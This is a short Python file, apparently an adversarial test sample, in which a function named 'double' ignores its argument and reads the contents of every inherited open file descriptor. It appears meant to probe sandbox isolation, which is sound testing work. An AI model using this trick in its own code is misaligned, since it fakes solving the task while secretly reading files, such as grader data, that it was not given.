"""Reads every file that it was born with.

naive: inherited descriptors
"""

import os
import stat


def double(x):
    found = []
    for number in range(3, 1024):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode):
                found.append(os.pread(number, 4000, 0).decode("utf-8", "replace"))
        except OSError:
            pass
    return found
